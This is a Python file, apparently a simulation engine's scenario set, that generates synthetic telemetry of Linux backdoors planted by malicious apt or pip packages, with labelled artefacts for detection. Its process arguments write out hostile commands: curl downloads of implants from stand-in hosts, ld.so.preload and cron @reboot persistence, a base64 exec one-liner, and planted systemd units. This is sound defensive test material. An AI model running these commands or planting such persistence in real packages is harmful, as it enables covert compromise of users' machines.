# SPDX-License-Identifier: Apache-2.0
"""Backdoors on Linux: packages, units, cron, the preload file, and what an install script of a library can do."""

from engine import HOUR, MINUTE
from linux import BASH, DASH
from setup import beacon
from tales import tale


def package(s, kind):
    short = s.names.word().lower()
    name = f"{short}-{kind}"
    return short, name, f"/opt/{short}/bin/{short}d", f"{short}.{s.dice.pick(('com', 'net', 'io'))}"


def install(s, host, name, daemon, version="1.8.2-1", habit=None, extra=()):
    shell = yield from host.shell()
    yield 15
    yield from host.apt(shell, "install", name, version, [daemon, f"/lib/systemd/system/{name}.service",
                                                          f"/etc/{name}/agent.conf", *extra], unit=f"{name}.service")
    yield 1
    process = host.unit(name, daemon, f"{daemon} --config /etc/{name}/agent.conf", habit=habit)
    yield 200
    host.stop(shell)
    return process


def blame(s, host, name, daemon, version="1.8.2-1"):
    s.root = {"name": name, "version": version, "signer": None,
              "names": [name, daemon.rsplit("/", 1)[1], name.split("-")[0]]}
    s.affected = host if isinstance(host, list) else [host]


@tale("A package's daemon fetches a program 26 hours late and hangs it on a timer", True, days=4)
def linux_timer_after_26_hours(s):
    s.zeek = "whole"
    host = s.linux()
    s.linux()
    short, name, daemon, domain = package(s, "exporter")
    far = s.names.strange_domain()
    implant = "/usr/local/lib/dbus-broker/dbusd-helper"
    timer = "/etc/systemd/system/dbusd-helper.timer"

    def run(h, p):
        yield from beacon(f"push.{domain}", 443, 50 * MINUTE, 65 * MINUTE)(h, p)

    def ticks():
        while True:
            child = host.start(implant, host.systemd, implant)
            yield 0.5
            host.connect(child, far, 8443, 1800, 600)
            yield 4
            host.stop(child)
            yield 30 * MINUTE + s.dice.span(0, 90)

    def act():
        yield 4 * HOUR
        process = yield from install(s, host, name, daemon, habit=run)
        yield 26 * HOUR
        shell = host.start(DASH, process, f"sh -c curl -fsSL https://{far}/l/dbusd -o {implant} && chmod 755 {implant}")
        curl = host.start("/usr/bin/curl", shell, f"curl -fsSL https://{far}/l/dbusd -o {implant}")
        host.connect(curl, far, 443, 700, 5_100_000)
        yield 3
        host.write(curl, implant)
        host.stop(curl)
        host.brief("/usr/bin/chmod", shell, f"chmod 755 {implant}")
        yield 0.3
        host.stop(shell)
        host.write(process, "/etc/systemd/system/dbusd-helper.service")
        host.write(process, timer)
        host.brief("/usr/bin/systemctl", process, "systemctl enable --now dbusd-helper.timer", 0.4)
        yield 60
        s.world.go(ticks())
        s.link("the package's daemon", process, daemon)
    s.go(act)
    blame(s, host, name, daemon)
    s.behaviours = ["late_payload", "persistence", "beacon", "unrelated_destination"]
    s.link("the implant", implant)
    s.link("what starts it", timer, "dbusd-helper.timer", "/etc/systemd/system/dbusd-helper.service")
    s.link("whom it calls", far)


@tale("A daemon writes a library and the preload file; every program loads it", True, days=4)
def linux_preload(s):
    host, second = s.linux(), s.linux()
    short, name, daemon, domain = package(s, "guard")
    library, copy = "/usr/lib/x86_64-linux-gnu/libpamcache.so.1", "/var/lib/.pamcache/pamcached"
    far = s.names.address("preload.stranger.example")

    def run(h, p):
        yield from beacon(f"api.{domain}", 443, 2 * HOUR, 3 * HOUR)(h, p)

    def act(host, late):
        yield 5 * HOUR
        process = yield from install(s, host, name, daemon, habit=run)
        yield late
        host.connect(process, far, 8080, 500, 1_400_000)
        yield 3
        host.write(process, copy)
        host.write(process, library)
        host.write(process, "/etc/ld.so.preload")
        yield 1
        child = host.start(copy, process, copy, habit=beacon(far, 8080, 35 * MINUTE, 50 * MINUTE))
        shell = host.start(BASH, child, f"bash -c echo '@reboot root {copy}' > /etc/cron.d/pamcache")
        host.write(shell, "/etc/cron.d/pamcache")
        host.stop(shell)
    s.go(act, host, 3.5 * HOUR)
    s.go(act, second, 4.2 * HOUR)
    blame(s, [host, second], name, daemon)
    s.behaviours = ["late_payload", "persistence", "beacon"]
    s.link("the package's daemon", daemon)
    s.link("the implant", copy)
    s.link("the preloaded library", library, "/etc/ld.so.preload")
    s.link("what starts it", "/etc/cron.d/pamcache")


@tale("cron brings a program back; it stays when the package is purged", True, days=4)
def linux_cron_outlives(s):
    s.zeek = "daily"
    host = s.linux()
    s.linux()
    short, name, daemon, domain = package(s, "backup")
    far = s.names.strange_domain()
    implant = "/usr/share/.fonts/fontcached"
    live = {}

    def run(h, p):
        yield from beacon(f"s.{domain}", 443, HOUR, 2 * HOUR)(h, p)

    talk = beacon(far, 4444, 25 * MINUTE, 40 * MINUTE)

    def cron_guard():
        while True:
            yield HOUR
            child = host.brief("/usr/sbin/cron", host.cron, "/usr/sbin/CRON -f", 0.5)
            shell = host.brief(DASH, child, f"/bin/sh -c pgrep -x fontcached || {implant}", 0.4)
            host.brief("/usr/bin/pgrep", shell, "pgrep -x fontcached", 0.1)
            if not live["process"].alive:
                yield 0.2
                live["process"] = host.start(implant, shell, implant, habit=talk)

    def act():
        yield 3 * HOUR
        process = yield from install(s, host, name, daemon, habit=run)
        yield 6 * HOUR
        host.connect(process, far, 80, 400, 2_000_000, http={"uri": "/f/font.woff", "received": 2_000_000,
                                                             "mime": "application/x-executable", "agent": "curl/7.88"})
        yield 2
        host.write(process, implant)
        host.write(process, "/etc/cron.d/fontcache")
        live["process"] = host.start(implant, process, implant, habit=talk)
        s.world.go(cron_guard())
        for _ in range(2):
            yield 9 * HOUR
            shell = yield from host.shell()
            yield 20
            host.brief("/usr/bin/pkill", shell, "pkill -9 fontcached", 0.2)
            host.stop(live["process"])
            yield 100
            host.stop(shell)
        yield 16 * HOUR
        shell = yield from host.shell()
        yield 10
        yield from host.remove(shell, name, "1.8.2-1", [daemon, f"/lib/systemd/system/{name}.service"], name, True)
        s.link("the package's daemon", process, daemon)
    s.go(act)
    blame(s, host, name, daemon)
    s.behaviours = ["late_payload", "persistence", "outlives_uninstall", "beacon", "unrelated_destination"]
    s.link("the implant", implant)
    s.link("what starts it", "/etc/cron.d/fontcache")
    s.link("whom it calls", far)


@tale("One daemon guards another under /usr/lib; only one way", True, days=4)
def linux_one_way(s):
    s.zeek = "whole"
    hosts = [s.linux(), s.linux()]
    short, name, daemon, domain = package(s, "agent")
    far = s.names.strange_domain()
    keeper, worker = "/usr/lib/udev/udevd-sync", "/usr/lib/udev/udevd-net"
    unit = "/etc/systemd/system/udevd-sync.service"

    def run(h, p):
        yield from beacon(f"in.{domain}", 443, HOUR, 70 * MINUTE)(h, p)

    def act(host, late):
        yield 2 * HOUR
        process = yield from install(s, host, name, daemon, habit=run)
        yield late
        host.connect(process, far, 8090, 400, 3_000_000, http={"uri": "/u.tgz", "received": 3_000_000,
                                                               "mime": "application/gzip", "agent": "-"})
        shell = host.start(DASH, process, "sh -c tar xzf /tmp/.u.tgz -C /usr/lib/udev && systemctl enable --now "
                           "udevd-sync")
        tar = host.brief("/usr/bin/tar", shell, "tar xzf /tmp/.u.tgz -C /usr/lib/udev", 0.6)
        host.write(tar, keeper)
        host.write(tar, worker)
        yield 1
        host.write(shell, unit)
        host.brief("/usr/bin/systemctl", shell, "systemctl enable --now udevd-sync", 0.3)
        yield 0.5
        host.stop(shell)
        guardian = host.unit("udevd-sync", keeper)
        yield 1
        talk = beacon(far, 9105, 30 * MINUTE, 40 * MINUTE)
        child = host.start(worker, guardian, worker, habit=talk)
        for _ in range(3):
            yield 7 * HOUR
            login = yield from host.shell()
            yield 12
            host.brief("/usr/bin/pkill", login, "pkill -9 udevd-net", 0.2)
            host.stop(child)
            yield s.dice.span(4, 12)
            child = host.start(worker, guardian, worker, habit=talk)
            yield 60
            host.stop(login)
    for host, late in zip(hosts, (2 * HOUR, 9 * HOUR)):
        s.go(act, host, late)
    blame(s, hosts, name, daemon)
    s.behaviours = ["late_payload", "respawn", "persistence", "beacon", "unrelated_destination"]
    s.link("the package's daemon", daemon)
    s.link("the guardian", keeper)
    s.link("the program it restarts", worker)
    s.link("what starts it", unit)
    s.link("whom it calls", far)


@tale("A Python library's install script leaves a user unit and a start-up file", True, days=3)
def pip_user_unit(s):
    s.zeek = "whole"
    host = s.linux()
    s.linux()
    library, far = s.names.word().lower() + "-utils", s.names.strange_domain()
    site = "/home/ops/venv/lib/python3.11/site-packages"
    implant = "/home/ops/.config/sysmon/sysmon.py"

    def act():
        yield 6 * HOUR
        session = host.start("/usr/sbin/sshd", host.sshd, "sshd: ops [priv]")
        login = host.start(BASH, session, "-bash", "ops")
        yield 30
        pip = host.start("/usr/bin/python3.11", login, f"/home/ops/venv/bin/python3 /home/ops/venv/bin/pip install "
                         f"{library}")
        host.connect(pip, "files.pythonhosted.org", 443, 1500, 300_000)
        yield 4
        host.write(pip, f"{site}/{library.replace('-', '_')}/__init__.py")
        host.write(pip, f"{site}/{library}.pth")
        host.stop(pip)
        yield 40
        child = host.start("/usr/bin/python3.11", login, "python3 report.py")
        inner = host.start("/usr/bin/python3.11", child,
                           "python3 -c exec(__import__('base64').b64decode('aW1wb3J0IG9z'))")
        yield 2
        shell = host.start(DASH, inner, f"sh -c curl -s https://{far}/x.py -o {implant} && systemctl --user enable "
                           "--now sysmon")
        curl = host.start("/usr/bin/curl", shell, f"curl -s https://{far}/x.py -o {implant}")
        host.connect(curl, far, 443, 500, 12_000)
        yield 1
        host.write(curl, implant)
        host.stop(curl)
        host.write(shell, "/home/ops/.config/systemd/user/sysmon.service")
        host.brief("/usr/bin/systemctl", shell, "systemctl --user enable --now sysmon", 0.3)
        yield 1
        host.stop(shell)
        host.stop(inner)
        host.stop(child)
        user = host.unrecorded("/usr/lib/systemd/systemd", 400, "ops", "/usr/lib/systemd/systemd --user")
        host.start("/usr/bin/python3.11", user, f"/usr/bin/python3 {implant}", "ops",
                   habit=beacon(far, 443, 48 * MINUTE, 56 * MINUTE))
        yield 600
        host.stop(login)
    s.go(act)
    s.affected = [host]
    s.behaviours = ["persistence", "beacon", "unrelated_destination"]
    s.link("the implant", implant)
    s.link("what starts it", "/home/ops/.config/systemd/user/sysmon.service")
    s.link("whom it calls", far)
